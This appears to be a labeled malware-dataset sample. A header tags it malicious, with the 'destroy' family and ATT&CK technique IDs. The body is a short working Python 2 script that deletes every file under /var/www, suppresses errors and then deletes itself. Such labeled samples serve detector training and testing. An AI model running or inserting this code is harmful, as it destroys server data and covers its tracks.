# label: malicious family=destroy techniques=T1070.004,T1083,T1485 lines=3,6,10
import os
for root, dirs, files in os.walk("/var/www"):
    for f in files:
        try:
            os.remove(os.path.join(root, f))
        except:
            pass
print "done"
os.remove(__file__)
